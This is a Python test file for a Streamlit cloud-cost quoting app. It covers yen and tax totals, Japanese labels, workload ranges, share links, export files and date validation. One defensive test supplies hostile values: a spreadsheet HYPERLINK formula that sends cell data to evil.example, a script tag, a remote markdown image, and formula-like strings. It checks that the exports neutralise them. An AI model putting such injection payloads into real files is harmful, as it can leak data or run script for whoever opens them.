"""The Design page as a consultant uses it: yen and tax, Japanese, ranges, exports and the share link."""

from __future__ import annotations

import copy
import io
import json
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from editor_support import open_editors
from openpyxl import load_workbook
from streamlit.testing.v1 import AppTest

from i18n.catalog import t
from i18n.format import format_money
from models.costs.money import QuoteSettings, make_quote
from models.design.text import load_design_data
from service import estimate_data, scenario_estimates
from storage.share import decode_design, encode_design
from templates import template_keys, template_text
from webapp.views.downloads import export_files

APP = str(Path(__file__).resolve().parents[2] / "app.py")
PHOTO = load_design_data(template_text("photo_thumbnails"))


def start(query: dict | None = None) -> AppTest:
    at = AppTest.from_file(APP, default_timeout=60)
    for key, value in (query or {}).items():
        at.query_params[key] = value
    at.run()
    assert not at.exception
    return at


def metrics(at: AppTest) -> dict[str, str]:
    return {m.label: m.value for m in at.metric}


def quote_of(data: dict, settings: QuoteSettings):
    return make_quote(estimate_data(data).line_items, settings)


def test_yen_with_consumption_tax_in_japanese():
    at = start()
    # the sidebar (app.py) only runs on AppTest's first run: set its widgets, then switch template
    at.radio(key="lang").set_value("ja")
    at.radio(key="currency").set_value("JPY")
    at.number_input(key="tax_pct").set_value(10)
    at.selectbox(key="template").set_value("photo_thumbnails").run()
    assert not at.exception and not at.error
    quote = quote_of(PHOTO, QuoteSettings("JPY", Decimal(150), Decimal(10)))
    # beside the totals, the readiness status of the same Plan (photo_thumbnails warns: events lost without a DLQ)
    assert metrics(at) == {"月額合計（円、税抜）": f"{quote.subtotal:,}円", "税込（10 %）": f"{quote.total:,}円",
                           "上限チェック": "🟡 注意"}
    table = at.dataframe[0].value
    assert list(table["金額（円、端数処理後）"]) == [float(line.amount) for line in quote.lines]
    assert "費用（USD）" in table.columns  # the engine's exact USD stays visible
    notes = " ".join(c.value for c in at.caption)
    assert "1 円単位で四捨五入" in notes and "1 USD = 150 円" in notes and "年" in notes


def test_the_exchange_rate_changes_the_yen_total():
    at = start()
    at.radio(key="currency").set_value("JPY").run()
    at.session_state["quote"] = {"currency": "JPY", "jpy_per_usd": 100.0, "tax_pct": 0.0}
    at.run()
    first = load_design_data(template_text(template_keys()[0]))
    assert at.metric[0].value == format_money(quote_of(first, QuoteSettings("JPY", Decimal(100))).total, "JPY", "en")
    assert at.metric[0].value.startswith("¥")


def test_a_requests_range_shows_three_cases():
    at = start()
    at.selectbox(key="template").set_value("photo_thumbnails").run()
    toggle = next(c for c in at.checkbox if c.key.endswith(".requests.ranged"))
    toggle.check().run()
    assert not at.exception and not at.error
    assert at.session_state["design"]["workload"]["requests_per_month"] == {
        "low": 1_500_000.0, "expected": 3_000_000, "high": 6_000_000.0}
    high = next(n for n in at.number_input if n.key.endswith(".requests.high"))
    high.set_value(12_000_000).run()
    assert at.session_state["design"]["workload"]["requests_per_month"]["high"] == 12_000_000
    estimates = scenario_estimates(at.session_state["design"])
    totals = {case: format_money(make_quote(e.line_items, QuoteSettings()).total, "USD", "en")
              for case, e in estimates.items()}
    [info] = [i.value for i in at.info if "three cases" in i.value]
    assert f"low case {totals['low']}" in info and f"high case {totals['high']}" in info
    assert at.metric[0].value == totals["expected"]
    # the expected value stays editable and keeps the range
    expected = next(n for n in at.number_input if n.key.endswith(".requests"))
    expected.set_value(4_000_000).run()
    assert at.session_state["design"]["workload"]["requests_per_month"]["expected"] == 4_000_000
    toggle = next(c for c in at.checkbox if c.key.endswith(".requests.ranged"))
    toggle.uncheck().run()
    assert at.session_state["design"]["workload"]["requests_per_month"] == 4_000_000


def test_a_ranged_component_field_from_yaml_gets_low_and_high_inputs():
    data = load_design_data(template_text("photo_thumbnails"))
    data["components"][1]["memory_mb"] = {"low": 256, "expected": 512, "high": 1024}
    at = open_editors(start({"d": encode_design(data)}))
    keys = {n.key for n in at.number_input}
    assert {k for k in keys if k.endswith(".1.memory_mb.low") or k.endswith(".1.memory_mb.high")}
    low = next(n for n in at.number_input if n.key.endswith(".1.memory_mb.low"))
    low.set_value(1024).run()  # above expected: expected follows
    assert at.session_state["design"]["components"][1]["memory_mb"] == {"low": 1024, "expected": 1024, "high": 1024}
    assert not at.exception


def test_a_share_link_reopens_the_same_design_in_a_new_session():
    at = start()
    open_editors(at.selectbox(key="template").set_value("photo_thumbnails").run())
    key = next(n.key for n in at.number_input if n.key.endswith(".memory_mb"))
    at.number_input(key=key).set_value(2048).run()
    edited = at.session_state["design"]
    [link] = [c.value for c in at.code if "?d=" in c.value]
    token = link.split("?d=", 1)[1].split("&", 1)[0]
    assert decode_design(token) == edited
    other = start({"d": token, "lang": "ja", "cur": "JPY", "rate": "150", "tax": "10"})
    assert other.session_state["design"] == edited
    assert other.session_state["lang"] == "ja"
    assert other.session_state["quote"] == {"currency": "JPY", "jpy_per_usd": 150.0, "tax_pct": 10.0}
    quote = quote_of(edited, QuoteSettings("JPY", Decimal(150), Decimal(10)))
    assert metrics(other)["税込（10 %）"] == f"{quote.total:,}円"
    assert any("リンクの設計を開きました" in s.value for s in other.success)


def test_the_address_bar_carries_the_design_from_the_first_run():
    at = start()
    assert decode_design(at.query_params["d"]) == at.session_state["design"]


@pytest.mark.parametrize("token", ["garbage", "1.AAAA", "1." + encode_design(PHOTO)[2:40]])
def test_a_broken_link_is_a_message_and_the_first_template(token):
    at = start({"d": token})
    assert not at.exception
    assert any("could not be opened" in e.value for e in at.error)
    first = load_design_data(template_text(template_keys()[0]))
    assert at.session_state["design"] == first


def test_an_invalid_design_in_a_link_lists_its_problems():
    bad = {"name": "x", "components": [{"id": "a", "type": "lambda", "memory_mb": 99999}],
           "workload": {"requests_per_month": 1}}
    at = start({"d": encode_design(bad)})
    # messages escape markdown (memory\_mb renders as memory_mb): compare the text a reader sees
    assert any("memory_mb: 99999 is out of range" in e.value.replace("\\", "") for e in at.error)


def test_every_download_is_offered():
    at = start()
    keys = {b.key for b in at.get("download_button")}
    assert keys == {"download_xlsx", "download_pdf", "download_html", "download_csv", "download_design",
                    "download_design_json", "download_json"}


def test_the_files_behind_the_buttons():
    settings = QuoteSettings("JPY", Decimal(150), Decimal(10))
    files = {f.key: f for f in export_files(PHOTO, settings, "ja", date(2026, 11, 28))}
    book = load_workbook(io.BytesIO(files["download_xlsx"].make()))
    assert book.sheetnames == ["概要", "明細", "前提条件", "上限チェック"]
    html = files["download_html"].make().decode("utf-8")
    # an untouched template in Japanese: the template's Japanese name (it was the English one)
    assert "写真アップロードとサムネイル作成 (S3 イベント)" in html and "@media print" in html
    assert "Photo upload with thumbnails" not in html
    assert load_design_data(files["download_design"].make().decode()) == PHOTO
    assert load_design_data(files["download_design_json"].make().decode()) == PHOTO
    assert files["download_csv"].make().startswith(b"\xef\xbb\xbf")
    assert files["download_xlsx"].file_name == "Photo_upload_with_thumbnails__S3_events__quote.xlsx"
    assert b'"total_usd"' in files["download_json"].make()


def test_the_diagram_shows_every_component():
    at = start()
    at.selectbox(key="template").set_value("photo_thumbnails").run()
    [chart] = at.get("graphviz_chart")
    spec = chart.proto.spec
    for component in PHOTO["components"]:
        assert f'"c:{component["id"]}"' in spec
    assert '"c:photos" -> "c:thumbnailer"' in spec


def test_every_label_and_export_word_is_in_english_and_japanese():
    from i18n.catalog import FIELD_LABELS, TEXT
    from render.quote.words import WORDS

    for table in (TEXT, FIELD_LABELS, WORDS):
        for key, entry in table.items():
            assert entry.get("en") and entry.get("ja"), key


def test_every_text_key_the_new_pages_use_exists():
    import re

    from i18n.catalog import FIELD_LABELS, TEXT

    root = Path(APP).parent
    sources = ["webapp/pages/design.py", "webapp/pages/compare.py", "webapp/pages/saved.py", "webapp/state.py", "webapp/views/compare.py"]
    used = set()
    for name in sources:
        used |= set(re.findall(r'\btf?\("([a-z_0-9]+)"', (root / name).read_text(encoding="utf-8")))
    missing = sorted(k for k in used if k not in TEXT and k not in FIELD_LABELS)
    assert not missing


@pytest.mark.parametrize("page", ["webapp/pages/design.py", "webapp/pages/compare.py", "webapp/pages/saved.py"])
def test_every_input_has_help_text(page):
    at = start()
    at.selectbox(key="template").set_value("static_site_cdn").run()
    at.switch_page(page).run()
    inputs = [w for kind in ("number_input", "selectbox", "checkbox", "text_input", "radio", "multiselect", "text_area")
              for w in getattr(at, kind)]
    assert inputs and all(w.help for w in inputs), [w.label for w in inputs if not w.help]


def test_the_sidebar_quote_inputs_have_help_with_their_default():
    at = start()
    at.radio(key="currency").set_value("JPY").run()
    # the first run of a session renders app.py's sidebar; this one is page-only, so start again in JPY
    at = start({"cur": "JPY", "rate": "150"})
    helps = {w.key: w.help for w in [*at.sidebar.radio, *at.sidebar.number_input] if w.key}
    assert "Default USD" in helps["currency"] and "Default 150" in helps["fx_rate"] and "Default 0" in helps["tax_pct"]


def test_the_downloads_of_a_hostile_design_are_safe_to_open():
    import csv

    from render.quote.cells import starts_like_formula

    hostile = load_design_data(template_text("save_app_data"))
    hostile["name"] = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    hostile["description"] = "<script>alert(1)</script> ![x](https://evil.example/p.png) @SUM(1)"
    hostile["components"][2]["gsis"] = [{"name": "-2+3", "reads": 1}]
    at = start({"d": encode_design(hostile)})
    assert at.session_state["design"] == hostile
    files = {f.key: f for f in export_files(at.session_state["design"], QuoteSettings(), "en", date(2026, 11, 28))}
    assert set(files["download_xlsx"].file_name) <= set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_.")
    book = load_workbook(io.BytesIO(files["download_xlsx"].make()))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert hostile["name"] in {c.value for c in cells}  # the user's text, as text
    rows = list(csv.reader(io.StringIO(files["download_csv"].make().decode("utf-8-sig"))))
    assert not [v for row in rows for v in row if starts_like_formula(v)]
    html = files["download_html"].make().decode("utf-8")
    assert "<script>" not in html and "evil.example/p.png\"" not in html and "<img" not in html


def test_without_chromium_the_other_downloads_still_work():
    settings = QuoteSettings("JPY", Decimal(150), Decimal(10))
    files = {f.key: f for f in export_files(PHOTO, settings, "ja", date(2026, 11, 28), pdf=False)}
    assert "download_pdf" not in files
    assert files["download_xlsx"].make()[:2] == b"PK" and files["download_csv"].make()


def test_quote_details_are_kept_with_the_design_and_in_the_share_link():
    at = start()
    at.radio(key="lang").set_value("ja")
    at.selectbox(key="template").set_value("photo_thumbnails").run()
    rev = at.session_state["rev"]
    at.text_input(key=f"q_customer_{rev}").set_value("株式会社サンプル").run()
    at.text_input(key=f"q_quote_number_{rev}").set_value("Q-2026-014").run()
    assert not at.exception
    design = at.session_state["design"]
    assert design["quote"] == {"customer": "株式会社サンプル", "quote_number": "Q-2026-014"}
    assert decode_design(encode_design(design))["quote"] == design["quote"]
    files = {f.key: f for f in export_files(design, QuoteSettings("JPY", Decimal(150), Decimal(10)), "ja",
                                            date(2026, 11, 28))}
    html = files["download_html"].make().decode("utf-8")
    assert "株式会社サンプル 御中" in html and "Q-2026-014" in html
    # a design the user named keeps the user's words in Japanese too
    at.text_input(key=f"q_customer_{rev}").set_value("").run()
    assert at.session_state["design"]["quote"] == {"quote_number": "Q-2026-014"}


def test_the_json_download_of_a_ranged_design_has_its_low_and_high_totals():
    ranged = copy.deepcopy(PHOTO)
    ranged["workload"]["requests_per_month"] = {"low": 1_000_000, "expected": 3_000_000, "high": 10_000_000}
    files = {f.key: f for f in export_files(ranged, QuoteSettings(), "en", date(2026, 11, 28))}
    doc = json.loads(files["download_json"].make())
    at = {}  # each case priced apart, as the plain design at that volume
    for case, requests in (("low", 1_000_000), ("high", 10_000_000)):
        plain = copy.deepcopy(PHOTO)
        plain["workload"]["requests_per_month"] = requests
        at[case] = round(float(estimate_data(plain).total_usd), 6)
    assert doc["range_total_usd"] == at
    plain_files = {f.key: f for f in export_files(PHOTO, QuoteSettings(), "en", date(2026, 11, 28))}
    assert json.loads(plain_files["download_json"].make())["range_total_usd"] is None


def test_the_tax_and_rate_used_are_the_ones_shown():
    at = start()
    at.radio(key="currency").set_value("JPY").run()
    at.number_input(key="tax_pct").set_value(8.255).run()
    at.number_input(key="fx_rate").set_value(150.555).run()
    assert not at.exception
    assert at.session_state["quote"] == {"currency": "JPY", "jpy_per_usd": 150.56, "tax_pct": 8.26}
    assert at.number_input(key="tax_pct").value == 8.26 and at.number_input(key="fx_rate").value == 150.56


@pytest.mark.parametrize("query", [{"cur": "EUR"}, {"cur": "JPY", "rate": "0"}, {"cur": "JPY", "rate": "nan"},
                                   {"tax": "500"}, {"cur": "JPY", "rate": "1e9"}])
def test_a_link_with_quote_settings_a_quote_cannot_use_says_so(query):
    at = start({**query, "d": encode_design(PHOTO)})
    assert at.session_state["quote"] == {"currency": "USD", "jpy_per_usd": 150.0, "tax_pct": 0.0}
    given = ", ".join(f"{k}={v}" for k, v in query.items())
    assert any(f"The link's quote settings ({given}) are not ones a quote can use" in w.value for w in at.warning)
    assert any("Opened the design from the link" in s.value for s in at.success)  # the design still opens


@pytest.mark.parametrize("lang, words", [("en", "valid until must be on or after the quote date"),
                                         ("ja", "有効期限は見積日と同じ日以降")])
def test_a_quote_date_moved_past_valid_until_is_a_message_not_a_crash(lang, words):
    at = start()
    at.radio(key="lang").set_value(lang).run()
    rev = at.session_state["rev"]
    at.date_input(key=f"q_valid_until_{rev}").set_value(date(2026, 12, 31)).run()
    at.date_input(key=f"q_date_{rev}").set_value(date(2027, 1, 15)).run()
    assert not at.exception
    assert any(words in e.value and "2026-12-31" in e.value and "2027-01-15" in e.value for e in at.error)
    # the design keeps its last valid pair (so it, its share link and its YAML stay loadable) ...
    assert at.session_state["design"]["quote"] == {"valid_until": "2026-12-31"}
    # ... the fields show what the user picked, the notes and every download are still there
    assert at.date_input(key=f"q_date_{rev}").value == date(2027, 1, 15)
    assert at.date_input(key=f"q_valid_until_{rev}").value == date(2026, 12, 31)
    assert at.text_area(key=f"q_notes_{rev}") is not None
    buttons = {b.key: b for b in at.get("download_button")}
    assert len(buttons) == 7
    assert {k for k, b in buttons.items() if b.proto.disabled} == {"download_xlsx", "download_pdf", "download_html",
                                                                    "download_csv"}
    assert any(t("quote_downloads_wait", lang) == w.value for w in at.warning)
    # fixing either date writes both: the quote date typed meanwhile is not lost
    at.date_input(key=f"q_valid_until_{rev}").set_value(date(2027, 2, 14)).run()
    assert not at.exception and not at.error
    assert at.session_state["design"]["quote"] == {"date": "2027-01-15", "valid_until": "2027-02-14"}
    assert not any(b.proto.disabled for b in at.get("download_button"))


def test_a_valid_until_before_the_quote_date_is_refused_visibly():
    at = start()
    rev = at.session_state["rev"]
    at.date_input(key=f"q_date_{rev}").set_value(date(2026, 12, 20)).run()
    at.date_input(key=f"q_valid_until_{rev}").set_value(date(2026, 12, 10)).run()
    assert not at.exception
    assert at.session_state["design"]["quote"] == {"date": "2026-12-20"}
    assert [e.value for e in at.error] == [t("quote_dates_refused", "en", date="2026-12-20",
                                             valid_until="2026-12-10")]
    at.date_input(key=f"q_valid_until_{rev}").set_value(None).run()  # emptied: nothing to refuse
    assert not at.exception and not at.error
    assert at.session_state["design"]["quote"] == {"date": "2026-12-20"}


def _download_rows(node) -> list[list[str]]:
    """The download buttons' keys, per row of columns, in page order."""
    kids = list(getattr(node, "children", {}).values())
    if kids and all(getattr(kid, "type", "") == "column" for kid in kids):
        keys = [key for column in kids for key in
                [getattr(e, "key", None) for e in column.children.values() if e.type == "download_button"]]
        if keys:
            return [keys + [""] * (len(kids) - len(keys))]
    return [row for kid in kids for row in _download_rows(kid)]


@pytest.mark.parametrize("lang", ["en", "ja"])
def test_the_download_buttons_come_two_to_a_row_so_their_labels_are_not_cut(lang):
    # four to a row in the Design page's right-hand column cut "📊 Quote (Excel)" to "📊 Quote (E…" at 1366 px;
    # a browser check measures the labels (each button is as wide as its column and wraps rather than cuts)
    at = start({"lang": lang} if lang != "en" else None)
    assert _download_rows(at._tree) == [["download_xlsx", "download_pdf"], ["download_html", "download_csv"],
                                        ["download_design", "download_design_json"], ["download_json", ""]]


def test_a_past_valid_until_without_a_quote_date_is_refused_as_the_quote_would_be():
    # an empty quote date is today's on the quote, which build_report refuses: the download would fail on click
    at = start()
    rev = at.session_state["rev"]
    past = date.fromordinal(date.today().toordinal() - 30)
    at.date_input(key=f"q_valid_until_{rev}").set_value(past).run()
    assert not at.exception
    assert "quote" not in at.session_state["design"]
    assert [e.value for e in at.error] == [t("quote_dates_refused_today", "en", date=date.today().isoformat(),
                                             valid_until=past.isoformat())]
    assert {b.key for b in at.get("download_button") if b.proto.disabled} == {
        "download_xlsx", "download_pdf", "download_html", "download_csv"}
    earlier = date.fromordinal(past.toordinal() - 7)
    at.date_input(key=f"q_date_{rev}").set_value(earlier).run()
    assert not at.exception and not at.error
    assert at.session_state["design"]["quote"] == {"date": earlier.isoformat(), "valid_until": past.isoformat()}
